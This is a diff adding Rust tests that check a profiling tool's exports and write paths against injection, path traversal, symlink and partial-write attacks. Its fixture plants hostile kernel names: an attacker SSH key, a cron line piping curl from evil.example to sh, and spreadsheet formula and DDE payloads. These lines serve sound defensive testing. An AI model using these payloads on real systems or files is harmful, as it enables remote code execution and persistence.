@@ -538,3 +538,399 @@ fn cross_rank_report_of_a_per_rank_set_draws_the_rank_by_step_heat_map() {
     );
     assert_ne!(code, 0, "{err}");
 }
+
+// ---------------------------------------------------------------------------------------------
+// Writes: where (output roots over MCP/HTTP), how (no links, no overwrite, no debris), what (escaped)
+
+fn mock() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/mock.sqlite")
+}
+
+/// A copy of `mock.sqlite` whose kernel names carry an SSH key line, a cron
+/// line and a spreadsheet formula, as a crafted profile would.
+fn crafted_profile(dir: &Path) -> PathBuf {
+    let p = dir.join("crafted.sqlite");
+    std::fs::copy(mock(), &p).unwrap();
+    let conn = rusqlite::Connection::open(&p).unwrap();
+    for (id, name) in [
+        (
+            139,
+            "k\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEVILEVIL attacker@x\n",
+        ),
+        (138, "k\r\n* * * * * root curl evil.example|sh\r\n"),
+        (142, "=HYPERLINK(\"http://evil.example\",\"x\")"),
+        (141, "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ] {
+        conn.execute(
+            "UPDATE StringIds SET value = ?2 WHERE id = ?1",
+            rusqlite::params![id, name],
+        )
+        .unwrap();
+    }
+    p
+}
+
+/// Lines of a file that a line-based reader (sshd, cron) would take as its own.
+fn planted_lines(text: &str) -> Vec<String> {
+    text.lines()
+        .map(|l| l.trim_start_matches(['"', ' ', '\t']))
+        .filter(|l| l.starts_with("ssh-ed25519") || l.starts_with("* * * * *"))
+        .map(String::from)
+        .collect()
+}
+
+#[test]
+fn csv_and_html_exports_neutralize_line_breaks_and_formulas() {
+    let home = tempfile::tempdir().unwrap();
+    let crafted = crafted_profile(home.path());
+    for report in ["kernels", "cuda_gpu_kern_sum"] {
+        let out = home.path().join(format!("{report}.csv"));
+        let v = ok(
+            home.path(),
+            &[
+                "profile",
+                "export",
+                crafted.to_str().unwrap(),
+                "--kind",
+                "csv",
+                "--report",
+                report,
+                "--output",
+                out.to_str().unwrap(),
+            ],
+        );
+        assert!(v["records"].as_u64().unwrap() >= 2, "{v}");
+        let text = std::fs::read_to_string(&out).unwrap();
+        assert_eq!(
+            planted_lines(&text),
+            Vec::<String>::new(),
+            "{report}:\n{text}"
+        );
+        // Still one record per kernel: quoting keeps fields whole, line breaks shown as ⏎.
+        let mut rd = csv::Reader::from_path(&out).unwrap();
+        let names: Vec<String> = rd
+            .records()
+            .map(|r| {
+                r.unwrap()
+                    .iter()
+                    .map(String::from)
+                    .collect::<Vec<_>>()
+                    .join("|")
+            })
+            .collect();
+        assert!(
+            names.iter().any(|r| r.contains("k⏎ssh-ed25519")),
+            "{report}: {names:?}"
+        );
+        // Formula starts are defused (OWASP): `=`, `@`, `+`, `-` get a leading quote.
+        assert!(
+            names.iter().any(|r| r.contains("'=HYPERLINK")),
+            "{report}: {names:?}"
+        );
+        assert!(!text.contains("\n=HYPERLINK") && !text.contains(",=HYPERLINK"));
+        for line in text.lines() {
+            for field in line.split(',') {
+                let f = field.trim_start_matches('"');
+                assert!(
+                    !(f.starts_with('=') || f.starts_with('@')),
+                    "{report}: formula field {field:?} in {line:?}"
+                );
+            }
+        }
+    }
+    let html = home.path().join("r.html");
+    ok(
+        home.path(),
+        &[
+            "export",
+            "html",
+            "--profile",
+            crafted.to_str().unwrap(),
+            "--output",
+            html.to_str().unwrap(),
+        ],
+    );
+    let text = std::fs::read_to_string(&html).unwrap();
+    assert!(text.contains("ssh-ed25519"), "the name is shown");
+    assert_eq!(planted_lines(&text), Vec::<String>::new());
+}
+
+async fn post(server: &common::HttpServer, path: &str, body: Value) -> (u16, Value) {
+    let r = reqwest::Client::new()
+        .post(server.url(path))
+        .json(&body)
+        .send()
+        .await
+        .unwrap();
+    let code = r.status().as_u16();
+    (code, r.json().await.unwrap_or(Value::Null))
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn over_http_files_are_written_only_under_the_output_roots() {
+    let outside = tempfile::tempdir().unwrap();
+    let extra = tempfile::tempdir().unwrap();
+    let server = common::HttpServer::start(
+        &[],
+        &[("AISP_OUTPUT_ROOTS", extra.path().to_str().unwrap())],
+    );
+    let mock = mock().display().to_string();
+    let home = server.home.path().to_path_buf();
+    let exports = home.join("exports");
+    std::fs::create_dir_all(home.join("sub")).unwrap();
+    let refused = [
+        outside.path().join("authorized_keys").display().to_string(),
+        "../../authorized_keys".to_string(),
+        format!("{}/../x.csv", exports.display()),
+        home.join("config.toml").display().to_string(),
+        "/etc/cron.d/aisp".to_string(),
+    ];
+    for output in &refused {
+        for (route, args) in [
+            (
+                "/api/profile/export",
+                json_args(&[("path", &mock), ("kind", "csv"), ("output", output)]),
+            ),
+            (
+                "/api/export/html",
+                json_args(&[("profile", &mock), ("output", output)]),
+            ),
+        ] {
+            let (code, v) = post(&server, route, args).await;
+            assert_eq!(code, 400, "{route} {output}: {v}");
+            let hint = v["error"]["hint"].as_str().unwrap_or("");
+            assert!(
+                hint.contains("AISP_OUTPUT_ROOTS") || hint.contains("output root"),
+                "{route} {output}: {v}"
+            );
+        }
+    }
+    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
+    assert!(!home.join("config.toml").exists() && !home.join("authorized_keys").exists());
+    for (route, arg) in [
+        ("/api/profile/flame", "output_dir"),
+        ("/api/profile/ranks", "write_digests"),
+    ] {
+        let args = json_args(&[("path", &mock), (arg, outside.path().to_str().unwrap())]);
+        let (code, v) = post(&server, route, args).await;
+        assert_eq!(code, 400, "{route}: {v}");
+    }
+    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
+
+    // Relative paths land under $AISP_HOME/exports; a configured root takes absolute paths.
+    let (code, v) = post(
+        &server,
+        "/api/profile/export",
+        json_args(&[("path", &mock), ("kind", "csv"), ("output", "sub/k.csv")]),
+    )
+    .await;
+    assert_eq!(code, 200, "{v}");
+    assert!(exports.join("sub/k.csv").is_file(), "{v}");
+    let in_extra = extra.path().join("r.html").display().to_string();
+    let (code, v) = post(
+        &server,
+        "/api/export/html",
+        json_args(&[("profile", &mock), ("output", &in_extra)]),
+    )
+    .await;
+    assert_eq!(code, 200, "{v}");
+    assert!(extra.path().join("r.html").is_file());
+    // A link inside a root that points out of it is not followed.
+    std::os::unix::fs::symlink(outside.path(), exports.join("out")).unwrap();
+    let (code, v) = post(
+        &server,
+        "/api/profile/export",
+        json_args(&[("path", &mock), ("kind", "csv"), ("output", "out/k.csv")]),
+    )
+    .await;
+    assert_eq!(code, 400, "{v}");
+    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
+}
+
+fn json_args(pairs: &[(&str, &str)]) -> Value {
+    Value::Object(
+        pairs
+            .iter()
+            .map(|(k, v)| (k.to_string(), Value::String(v.to_string())))
+            .collect(),
+    )
+}
+
+fn entries(dir: &Path) -> Vec<String> {
+    let mut v: Vec<String> = std::fs::read_dir(dir)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    v.sort();
+    v
+}
+
+#[test]
+fn writes_never_follow_links_nor_replace_files_unasked() {
+    let home = tempfile::tempdir().unwrap();
+    let dir = home.path().join("out");
+    std::fs::create_dir_all(&dir).unwrap();
+    let victim = home.path().join("victim.txt");
+    std::fs::write(&victim, "keep me").unwrap();
+    let mock = mock().display().to_string();
+
+    // A link at the final name, to an existing file: refused, with or without overwrite.
+    let link = dir.join("trace.json");
+    std::os::unix::fs::symlink(&victim, &link).unwrap();
+    for extra in [&[][..], &["--overwrite"][..]] {
+        let mut args = vec![
+            "profile",
+            "export",
+            &mock,
+            "--kind",
+            "perfetto",
+            "--output",
+            link.to_str().unwrap(),
+        ];
+        args.extend_from_slice(extra);
+        let (code, v, _) = run(home.path(), &args);
+        assert_eq!(code, 1, "{extra:?}: {v}");
+        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me");
+    }
+    for (kind, ext) in [("html", "html"), ("pdf", "pdf")] {
+        let l = dir.join(format!("r.{ext}"));
+        std::os::unix::fs::symlink(&victim, &l).unwrap();
+        let (code, v, _) = run(
+            home.path(),
+            &[
+                "export",
+                kind,
+                "--profile",
+                &mock,
+                "--output",
+                l.to_str().unwrap(),
+                "--overwrite",
+            ],
+        );
+        assert_eq!(code, 1, "{kind}: {v}");
+        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me");
+    }
+    // A dangling link: its target is not created elsewhere.
+    let elsewhere = home.path().join("elsewhere.csv");
+    let dangling = dir.join("k.csv");
+    std::os::unix::fs::symlink(&elsewhere, &dangling).unwrap();
+    let (code, v, _) = run(
+        home.path(),
+        &[
+            "profile",
+            "export",
+            &mock,
+            "--kind",
+            "csv",
+            "--output",
+            dangling.to_str().unwrap(),
+        ],
+    );
+    assert_eq!(code, 1, "{v}");
+    assert!(
+        !elsewhere.exists(),
+        "the dangling link's target was created"
+    );
+
+    // Flame graphs and digests do not replace files unless asked.
+    let flame_dir = home.path().join("flame");
+    std::fs::create_dir_all(&flame_dir).unwrap();
+    let trace = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("tests/data/capture/flame_stacks.kineto.json.xz");
+    std::fs::write(flame_dir.join("flame_stacks.kineto.svg"), "mine").unwrap();
+    std::fs::write(flame_dir.join("flame_stacks.kineto.folded"), "mine").unwrap();
+    let (code, v, _) = run(
+        home.path(),
+        &[
+            "profile",
+            "flame",
+            trace.to_str().unwrap(),
+            "--output-dir",
+            flame_dir.to_str().unwrap(),
+        ],
+    );
+    assert_eq!(code, 1, "{v}");
+    assert_eq!(
+        std::fs::read_to_string(flame_dir.join("flame_stacks.kineto.svg")).unwrap(),
+        "mine"
+    );
+    assert_eq!(
+        std::fs::read_to_string(flame_dir.join("flame_stacks.kineto.folded")).unwrap(),
+        "mine"
+    );
+    let digests = home.path().join("digests");
+    let digest_args = [
+        "profile",
+        "ranks",
+        &mock,
+        "--digest-only",
+        "--write-digests",
+        digests.to_str().unwrap(),
+    ];
+    let d = ok(home.path(), &digest_args);
+    let written = PathBuf::from(d["digests_written"][0].as_str().unwrap());
+    let ranks = written.join("ranks.parquet");
+    let before = std::fs::read(&ranks).unwrap();
+    std::fs::write(&ranks, b"mine").unwrap();
+    let (code, v, _) = run(home.path(), &digest_args);
+    assert_eq!(code, 1, "{v}");
+    assert_eq!(std::fs::read(&ranks).unwrap(), b"mine");
+    assert!(!before.is_empty());
+    let left = entries(&dir);
+    assert!(left.iter().all(|n| !n.contains("tmp")), "debris: {left:?}");
+}
+
+#[test]
+fn a_full_disk_leaves_neither_debris_nor_a_truncated_file() {
+    use std::os::unix::process::CommandExt;
+    let home = tempfile::tempdir().unwrap();
+    let dir = home.path().join("out");
+    std::fs::create_dir_all(&dir).unwrap();
+    let train = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/train_good.sqlite");
+    let out = dir.join("t.json");
+    let attempt = || {
+        let mut cmd = common::aisp(home.path());
+        cmd.args(["--format", "json", "profile", "export"])
+            .arg(&train)
+            .args(["--kind", "perfetto", "--output"])
+            .arg(&out);
+        // SAFETY: only async-signal-safe calls between fork and exec.
+        unsafe {
+            cmd.pre_exec(|| {
+                // A 1 MiB file-size limit stands in for a full disk (EFBIG instead of ENOSPC);
+                // the 3.6 MB export cannot be written.
+                let lim = libc::rlimit {
+                    rlim_cur: 1 << 20,
+                    rlim_max: 1 << 20,
+                };
+                libc::setrlimit(libc::RLIMIT_FSIZE, &lim);
+                libc::signal(libc::SIGXFSZ, libc::SIG_IGN);
+                Ok(())
+            });
+        }
+        cmd.output().unwrap()
+    };
+    let first = attempt();
+    assert_eq!(
+        first.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&first.stdout)
+    );
+    assert_eq!(entries(&dir), Vec::<String>::new(), "nothing left behind");
+    // A retry (space freed) is not refused as "exists".
+    let v = ok(
+        home.path(),
+        &[
+            "profile",
+            "export",
+            train.to_str().unwrap(),
+            "--kind",
+            "perfetto",
+            "--output",
+            out.to_str().unwrap(),
+        ],
+    );
+    assert!(v["bytes"].as_u64().unwrap() > 1 << 20);
+    assert_eq!(entries(&dir), vec!["t.json"]);
+}
